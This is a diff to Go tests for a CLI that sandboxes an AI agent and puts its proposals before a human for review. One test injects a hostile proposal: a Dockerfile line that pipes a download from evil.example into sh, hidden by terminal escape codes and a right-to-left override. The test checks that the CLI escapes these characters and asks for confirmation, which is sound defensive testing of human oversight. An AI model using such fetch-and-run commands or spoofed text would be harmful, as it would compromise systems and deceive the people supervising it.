@@ -6,17 +6,21 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/creack/pty"
 	"gotest.tools/v3/assert"
 	is "gotest.tools/v3/assert/cmp"
+
+	"github.com/claude-bottle/claude-bottle/pkg/supervise"
+	"github.com/claude-bottle/claude-bottle/pkg/termtext"
 )
 
 // everyCommand is the command tree a user reaches; the test below fails
 // when a command is added without help and examples.
 var everyCommand = [][]string{
-	{"allow"}, {"cleanup"}, {"doctor"}, {"down"}, {"exec"}, {"ls"}, {"render"}, {"selftest"},
-	{"shell"}, {"supervise"}, {"supervise", "ls"}, {"supervise", "approve"}, {"supervise", "reject"},
+	{"allow"}, {"cleanup"}, {"deny"}, {"doctor"}, {"down"}, {"exec"}, {"ls"}, {"render"}, {"selftest"},
+	{"shell"}, {"supervise"}, {"supervise", "ls"}, {"supervise", "show"}, {"supervise", "approve"}, {"supervise", "reject"},
 	{"up"}, {"version"},
 }
 
@@ -205,4 +209,86 @@ func TestTerminalDetection(t *testing.T) {
 		env(map[string]string{"CLAUDE_BOTTLE_HOME": t.TempDir()}))
 	assert.Equal(t, code, ExitOK, out.String())
 	assert.Equal(t, out.String(), "no pending proposals\n")
+}
+
+// hostileProposal queues a proposal the way an older or compromised daemon
+// could (the MCP door refuses these fields), to prove the CLI escapes them.
+func hostileProposal(t *testing.T, home string, p supervise.Proposal) supervise.Proposal {
+	t.Helper()
+	q := supervise.Queue{Dir: filepath.Join(home, "queue", p.Slug)}
+	p, _, err := q.Submit(p, time.Now())
+	assert.NilError(t, err)
+	return p
+}
+
+func assertNoControl(t *testing.T, s string) {
+	t.Helper()
+	for _, r := range s {
+		if r != '\n' && r != '\t' && termtext.Unsafe(r) {
+			t.Fatalf("%U reached the terminal in %q", r, s)
+		}
+	}
+}
+
+func TestSuperviseEscapesAgentText(t *testing.T) {
+	home := t.TempDir()
+	e := map[string]string{"CLAUDE_BOTTLE_HOME": home}
+	p := hostileProposal(t, home, supervise.Proposal{Slug: "demo-abcde", Kind: supervise.KindCapability,
+		Dockerfile:    "FROM x\nRUN curl https://evil.example/x | sh\r\x1b[2KRUN apt-get install -y jq\n",
+		Justification: "need jq\x1b[1A\x1b[2K\u202eok"})
+	code, out, errOut := runCLI(t, e, "supervise", "ls")
+	assert.Equal(t, code, ExitOK, errOut)
+	assertNoControl(t, out)
+	assert.Assert(t, is.Contains(out, `rebuild the agent image: RUN curl https://evil.example/x | sh\r\x1b[2KRUN apt-get ins…`), out)
+	assert.Assert(t, is.Contains(out, `need jq\x1b[1A\x1b[2K\u202eok`))
+
+	code, out, _ = runCLI(t, e, "supervise", "show", p.ID)
+	assert.Equal(t, code, ExitOK)
+	assertNoControl(t, out)
+	assert.Assert(t, is.Contains(out, "  | ARG CLAUDE_BOTTLE_AGENT_BASE\n  | FROM ${CLAUDE_BOTTLE_AGENT_BASE}\n  | RUN curl https://evil.example/x | sh\\r\\x1b[2KRUN apt-get install -y jq\n"), out)
+
+	// Approving a rebuild prints the whole Dockerfile and, off a terminal,
+	// needs --yes; nothing is answered.
+	code, out, errOut = runCLI(t, e, "supervise", "approve", p.ID)
+	assert.Equal(t, code, ExitError)
+	assertNoControl(t, out)
+	assert.Assert(t, is.Contains(out, "rebuilds the agent of demo-abcde from this Dockerfile:\n  | ARG CLAUDE_BOTTLE_AGENT_BASE"))
+	assert.Assert(t, is.Contains(out, `| RUN curl https://evil.example/x | sh\r\x1b[2KRUN apt-get install -y jq`))
+	assert.Assert(t, is.Contains(errOut, "needs confirmation; run again with --yes"))
+	_, answered, err := supervise.Queue{Dir: filepath.Join(home, "queue", "demo-abcde")}.Response(p.ID)
+	assert.NilError(t, err)
+	assert.Assert(t, !answered)
+
+	code, out, _ = runCLI(t, e, "supervise", "show", p.ID, "--json")
+	assert.Equal(t, code, ExitOK)
+	var got supervise.Proposal
+	assert.NilError(t, json.Unmarshal([]byte(out), &got))
+	assert.Equal(t, got.Justification, p.Justification, "JSON carries the text as sent, JSON-escaped")
+	assert.Assert(t, !strings.Contains(out, "\x1b"))
+}
+
+func TestAllowJSONAndDenyUsage(t *testing.T) {
+	home := t.TempDir()
+	e := map[string]string{"CLAUDE_BOTTLE_HOME": home}
+	stageDefault(t, home, "default-abcde")
+	code, out, errOut := runCLI(t, e, "allow", "default-abcde", "--json")
+	assert.Equal(t, code, ExitOK, errOut)
+	var r Reachable
+	assert.NilError(t, json.Unmarshal([]byte(out), &r))
+	assert.Equal(t, r.Slug, "default-abcde")
+	assert.DeepEqual(t, r.Pipelock, []string{"api.anthropic.com", "statsig.anthropic.com"})
+	assert.Equal(t, len(r.Routes), 2)
+	assert.Equal(t, r.Routes[0].Host, "api.anthropic.com")
+
+	code, _, errOut = runCLI(t, e, "allow", "default-abcde", "10.0.0.1")
+	assert.Equal(t, code, ExitUsage)
+	assert.Assert(t, is.Contains(errOut, "is an IP address"))
+	code, _, errOut = runCLI(t, e, "allow", "default-abcde", "x.example.com/a/../b")
+	assert.Equal(t, code, ExitUsage)
+	assert.Assert(t, is.Contains(errOut, "without '..'"))
+	code, _, errOut = runCLI(t, e, "deny", "default-abcde")
+	assert.Equal(t, code, ExitUsage)
+	assert.Assert(t, is.Contains(errOut, "at least one HOST[/PATH]"))
+	code, _, errOut = runCLI(t, e, "revoke", "default-abcde", "x.example.com\u202e")
+	assert.Equal(t, code, ExitUsage, errOut)
 }
